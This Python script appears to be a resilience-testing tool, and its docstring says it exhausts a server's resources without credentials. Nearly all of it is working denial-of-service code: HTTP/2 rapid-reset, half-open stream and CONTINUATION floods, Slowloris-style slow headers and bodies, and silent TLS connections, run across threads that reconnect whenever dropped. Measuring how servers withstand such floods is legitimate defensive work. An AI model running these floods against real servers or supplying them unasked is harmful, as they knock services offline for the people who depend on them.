"""A client without credentials that uses up what a server has: by HTTP/2 as it is not meant, or by being slow. It is a
process of its own, not to be in the way of who measures: `floods.py URL CA KIND COUNT CONNECTIONS SECONDS`.
"""

import os
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

import hpack
from raw import address

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
BATCH = 100


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def block(method: str) -> bytes:
    """The headers of a request, which lean on nothing that was sent before."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    wanted = [(":method", method), (":scheme", "https"), (":authority", "server"), (":path", "/apis")]
    made: bytes = encoder.encode(wanted, huffman=False)
    return made


class Flood:
    """One kind of flood over several connections at once, each begun again whenever the server ends it."""

    def __init__(self, url: str, ca: str, count: int, connections: int, seconds: float) -> None:
        self.where, self.count, self.connections = address(url), count, connections
        self.end = time.monotonic() + seconds
        self.context = {}
        for protocol in ("h2", "http/1.1"):
            self.context[protocol] = ssl.create_default_context(cafile=ca)
            self.context[protocol].set_alpn_protocols([protocol])
        self.sent = self.opened = 0
        self.lock = threading.Lock()

    def connect(self, protocol: str = "h2") -> ssl.SSLSocket:
        raw = socket.create_connection(self.where, 30)
        connection = self.context[protocol].wrap_socket(raw, server_hostname=self.where[0])
        if protocol == "h2":
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        with self.lock:
            self.opened += 1
        return connection

    def run(self, kind: str) -> None:
        """Send the count on each of the connections, and go on until the time is over."""
        work = {
            "reset": lambda: self.batches(self.reset),
            "open": lambda: self.batches(self.half_open),
            "continuation": lambda: self.batches(self.continuation),
            "slow-headers": lambda: self.slow(b"GET /apis HTTP/1.1\r\nHost: server\r\nX-Slow: "),
            "slow-body": lambda: self.slow(
                b"POST /apis HTTP/1.1\r\nHost: server\r\nContent-Type: application/json\r\nContent-Length: 9999\r\n\r\n"
            ),
            "slow-hello": self.silent,
        }[kind]
        threads = [threading.Thread(target=work) for _ in range(self.connections)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def batches(self, made: Callable[[], Iterator[bytes]]) -> None:
        left = self.count
        while left > 0 or time.monotonic() < self.end:
            with suppress(OSError), self.connect() as connection:
                for batch in made():
                    connection.sendall(batch)
                    left -= BATCH
                    with self.lock:
                        self.sent += BATCH
                    if gone(connection) or (left <= 0 and time.monotonic() >= self.end):
                        break

    def reset(self) -> Iterator[bytes]:
        """Requests that are taken back at once."""
        headers, cancel = block("GET"), struct.pack(">I", 8)
        for first in range(1, 1 << 30, 2 * BATCH):
            streams = range(first, first + 2 * BATCH, 2)
            yield b"".join(
                frame(HEADERS, END_STREAM | END_HEADERS, s, headers) + frame(RST_STREAM, 0, s, cancel)
                for s in streams
            )

    def half_open(self) -> Iterator[bytes]:
        """Requests whose body never comes."""
        headers = block("POST")
        for first in range(1, 1 << 30, 2 * BATCH):
            yield b"".join(
                frame(HEADERS, END_HEADERS, s, headers) for s in range(first, first + 2 * BATCH, 2)
            )

    def continuation(self) -> Iterator[bytes]:
        """Headers that never end."""
        yield frame(HEADERS, END_STREAM, 1, block("GET"))
        header = b"\0\x7f\xe9\6" + b"a" * 1000 + b"\1b"  # a name of 1000 bytes
        while True:
            yield frame(CONTINUATION, 0, 1, header) * BATCH

    def slow(self, begin: bytes) -> None:
        """Connections that send one byte a second, in the number of the count."""
        found = []
        for _ in range(self.count):
            with suppress(OSError):
                found.append(self.connect("http/1.1"))
                found[-1].sendall(begin)
        self.hold(found, b"a")

    def silent(self) -> None:
        """Connections on which TLS never begins."""
        self.hold([socket.create_connection(self.where, 30) for _ in range(self.count)], b"")

    def hold(self, found: list[ssl.SSLSocket] | list[socket.socket], data: bytes) -> None:
        while time.monotonic() < self.end:
            for connection in found:
                with suppress(OSError):
                    connection.send(data)
            time.sleep(1)
        with self.lock:
            self.sent += len(found)
        for connection in found:
            connection.close()


def gone(connection: ssl.SSLSocket) -> bool:
    """Read what there is, and say whether the server has ended the connection."""
    while connection.pending() or select.select([connection], [], [], 0)[0]:
        if not connection.recv(1 << 16):
            return True
    return False


if __name__ == "__main__":
    os.nice(10)  # others of the machine that an attacker has would not be short of it
    flood = Flood(sys.argv[1], sys.argv[2], *map(int, sys.argv[4:]))
    flood.run(sys.argv[3])
    print(flood.sent, flood.opened)
